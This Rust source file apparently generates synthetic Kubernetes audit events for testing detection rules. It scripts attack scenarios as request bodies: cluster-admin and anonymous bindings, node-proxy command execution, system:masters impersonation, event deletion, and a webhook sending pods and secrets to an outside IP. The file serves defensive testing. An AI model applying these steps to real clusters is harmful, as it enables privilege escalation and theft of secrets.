//! Stories about permissions, and about what somebody does with too many of them.

use std::time::Duration;

use super::{QUICK, Story};
use crate::generate::{
    cluster::{anonymous, service_account},
    event::{Decision, Identity, Object, Request},
};

const RBAC: &str = "rbac.authorization.k8s.io";

pub(super) const CLUSTER_ADMIN: Story = Story {
    id: "cluster-admin",
    title: "A pipeline makes itself cluster-admin",
    description: "The service account of a CI runner binds a user to cluster-admin.",
    expected_rules: &["cluster_admin_binding"],
    related_rules: &["rbac_changed_by_service_account"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(runner) = scene.cluster.runners.get(2) else { return };
        let body = "{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\
                    \"metadata\":{\"name\":\"ops-debug\"},\"subjects\":[{\"kind\":\"User\",\"apiGroup\
                    \":\"rbac.authorization.k8s.io\",\"name\":\"noah.fischer@shop.example\"}],\
                    \"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\
                    \"name\":\"cluster-admin\"}}";
        let binding = Object::of(RBAC, "clusterrolebindings", "", "ops-debug");
        let request = Request::object(runner, "create", binding);
        scene.request(&Request { level: "Request", sent: body, ..request });
    },
};

pub(super) const ANONYMOUS: Story = Story {
    id: "anonymous",
    title: "The cluster is opened to everybody, and somebody comes in",
    description: "A binding gives system:unauthenticated the view role; soon a stranger lists pods \
                  without logging in.",
    expected_rules: &["binding_to_anonymous", "anonymous_access_allowed"],
    related_rules: &["anonymous_scan"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(6) else { return };
        let body = "{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\
                    \"metadata\":{\"name\":\"status-page\"},\"subjects\":[{\"kind\":\"Group\",\
                    \"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":\"system:unauthenticated\"}],\
                    \"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\
                    \"name\":\"view\"}}";
        let binding = Object::of(RBAC, "clusterrolebindings", "", "status-page");
        let request = Request::object(&who.caller, "create", binding);
        scene.request(&Request { level: "Request", sent: body, ..request });
        scene.pause(2_000);
        let reason = "RBAC: allowed by ClusterRoleBinding \"status-page\" of ClusterRole \"view\" to \
                      Group \"system:unauthenticated\"";
        let stranger = anonymous("203.0.113.66", "curl/8.5.0", reason);
        for namespace in ["", "payments"] {
            scene.request(&Request::object(&stranger, "list", Object::core("pods", namespace, "")));
            scene.pause(600);
        }
    },
};

pub(super) const PERMISSION_PROBE: Story = Story {
    id: "permission-probe",
    title: "A pod asks what it may do, then tries everything",
    description: "A web pod's token asks for its own permissions and runs into one refusal after \
                  another.",
    expected_rules: &["permission_probe", "forbidden_burst"],
    related_rules: &["service_account_hand_tool"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        const TRIED: [(&str, &str); 12] = [
            ("", "nodes"),
            ("", "namespaces"),
            ("", "persistentvolumes"),
            ("", "serviceaccounts"),
            ("", "pods"),
            ("apps", "daemonsets"),
            ("apps", "deployments"),
            ("batch", "cronjobs"),
            (RBAC, "clusterroles"),
            (RBAC, "clusterrolebindings"),
            ("networking.k8s.io", "networkpolicies"),
            ("certificates.k8s.io", "certificatesigningrequests"),
        ];
        let pod = scene.cluster.pod_in(scene.rng, "shop").clone();
        let Some(node) = scene.cluster.nodes.get(pod.node) else { return };
        let placed = Some((node, pod.workload));
        let agent = "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0";
        let caller = service_account(scene.rng, "shop", "web", placed, &pod.ip, agent);
        let review = Object::of("authorization.k8s.io", "selfsubjectrulesreviews", "", "");
        scene.request(&Request::object(&caller, "create", review));
        for (group, resource) in TRIED.iter().cycle().take(24) {
            scene.pause(120);
            let message = format!(
                "{resource} is forbidden: User \"{}\" cannot list resource \"{resource}\" in API \
                 group \"{group}\" at the cluster scope",
                caller.username
            );
            let request = Request::object(&caller, "list", Object::of(group, resource, "", ""));
            scene.request(&request.forbidden(&message));
        }
    },
};

pub(super) const EVENTS_DELETED: Story = Story {
    id: "events-deleted",
    title: "Somebody wipes their tracks",
    description: "All Kubernetes events of a namespace are deleted in one request.",
    expected_rules: &["kubernetes_events_deleted"],
    related_rules: &[],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(7) else { return };
        let events = Object::core("events", "payments", "");
        scene.request(&Request::object(&who.caller, "deletecollection", events));
    },
};

pub(super) const NODE_PROXY: Story = Story {
    id: "node-proxy",
    title: "Commands straight to a kubelet",
    description: "The API server is used as a proxy to a kubelet, which runs a command in any pod of \
                  its node; no exec is audited.",
    expected_rules: &["node_proxy_used"],
    related_rules: &[],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(9) else { return };
        let node = scene.rng.pick(&scene.cluster.nodes);
        let object = Object::core("nodes", "", &node.name).sub("proxy");
        for (verb, path) in [("get", "/pods"), ("create", "/run/payments/payment-gateway-0/app")] {
            let query = if verb == "get" { "" } else { "cmd=id" };
            let request = Request::object(&who.caller, verb, object);
            let request = Request { proxied: path, query, code: 200, ..request };
            scene.long_request(&request, Duration::from_millis(300));
            scene.pause(900);
        }
    },
};

pub(super) const IMPERSONATION: Story = Story {
    id: "impersonation",
    title: "Acting as a member of system:masters",
    description: "Somebody with the right to impersonate adds the group that no policy can hold.",
    expected_rules: &["privileged_impersonation"],
    related_rules: &["secrets_listed"],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(10) else { return };
        let as_master = Identity {
            username: "maintenance",
            groups: &["system:masters", "system:authenticated"],
            ..Identity::default()
        }
        .json();
        let request = Request::object(&who.caller, "list", Object::core("nodes", "", ""));
        scene.request(&Request { impersonated: &as_master, ..request });
        scene.pause(700);
        let object = Object::core("configmaps", "kube-system", "");
        let request = Request::object(&who.caller, "list", object);
        scene.request(&Request { impersonated: &as_master, ..request });
    },
};

pub(super) const WEBHOOK: Story = Story {
    id: "webhook",
    title: "Every new pod is sent to a stranger first",
    description: "A mutating admission webhook that points outside the cluster is installed: it sees \
                  and may change everything that is created.",
    expected_rules: &["admission_webhook_changed"],
    related_rules: &[],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(11) else { return };
        let body = "{\"kind\":\"MutatingWebhookConfiguration\",\"apiVersion\":\"admissionregistration.\
                    k8s.io/v1\",\"metadata\":{\"name\":\"pod-defaults\"},\"webhooks\":[{\"name\":\
                    \"defaults.203-0-113-77.example\",\"clientConfig\":{\"url\":\"https://203.0.113.77/\
                    mutate\"},\"rules\":[{\"apiGroups\":[\"*\"],\"apiVersions\":[\"*\"],\"operations\":\
                    [\"CREATE\"],\"resources\":[\"pods\",\"secrets\"]}],\"failurePolicy\":\"Ignore\",\
                    \"sideEffects\":\"None\",\"admissionReviewVersions\":[\"v1\"]}]}";
        let group = "admissionregistration.k8s.io";
        let object = Object::of(group, "mutatingwebhookconfigurations", "", "pod-defaults");
        let request = Request::object(&who.caller, "create", object);
        scene.request(&Request { level: "Request", sent: body, ..request });
    },
};

pub(super) const LITTLE_BY_LITTLE: Story = Story {
    id: "little-by-little",
    title: "Nothing of it is bad enough by itself",
    description: "Within seconds one person adds a container to a running pod, is refused to act as \
                  somebody else, makes a role that may hand out roles, and puts a pod with the \
                  capabilities of its node into kube-system. Each is a matter for tomorrow; together \
                  they are not.",
    expected_rules: &["risk_actor_id"],
    related_rules: &[
        "ephemeral_container_added",
        "impersonation_refused",
        "dangerous_role",
        "dangerous_capabilities",
        "pod_made_in_kube_system",
    ],
    needs_history: false,
    lasts: QUICK,
    play: |scene| {
        let Some(who) = scene.cluster.people.get(13) else { return };
        let pod = scene.cluster.pod_in(scene.rng, who.namespaces[0]).clone();
        let added = Object::core("pods", pod.namespace, &pod.name).sub("ephemeralcontainers");
        let body = "{\"spec\":{\"ephemeralContainers\":[{\"name\":\"debugger-x7k2p\",\"image\":\
                    \"registry.shop.example/tools/netshoot:1.0\"}]}}";
        let request = Request::object(&who.caller, "patch", added);
        scene.request(&Request { level: "Request", sent: body, ..request });
        scene.pause(700);
        let message = format!(
            "users \"platform-admin\" is forbidden: User \"{}\" cannot impersonate resource \"users\" in \
             API group \"\" at the cluster scope",
            who.caller.username
        );
        let nodes = Object::core("nodes", "", "");
        let refused = Request::object(&who.caller, "list", nodes).forbidden(&message);
        scene.request(&Request { decision: Decision::None, ..refused });
        scene.pause(700);
        let body = "{\"kind\":\"Role\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\
                    \"name\":\"helper\"},\"rules\":[{\"apiGroups\":[\"rbac.authorization.k8s.io\"],\
                    \"resources\":[\"roles\"],\"verbs\":[\"bind\",\"escalate\"]}]}";
        let role = Object::of(RBAC, "roles", who.namespaces[0], "helper");
        let request = Request::object(&who.caller, "create", role);
        scene.request(&Request { level: "Request", sent: body, ..request });
        scene.pause(700);
        for namespace in [who.namespaces[1], "kube-system"] {
            let body = format!(
                "{{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{{\"name\":\"helper\",\
                 \"namespace\":\"{namespace}\"}},\"spec\":{{\"containers\":[{{\"name\":\"helper\",\
                 \"image\":\"registry.shop.example/tools/netshoot:1.0\",\"securityContext\":{{\
                 \"capabilities\":{{\"add\":[\"SYS_PTRACE\"]}}}}}}]}}}}"
            );
            let pod = Object::core("pods", namespace, "helper");
            let request = Request::object(&who.caller, "create", pod);
            scene.request(&Request { level: "Request", sent: &body, ..request });
            scene.pause(700);
        }
    },
};
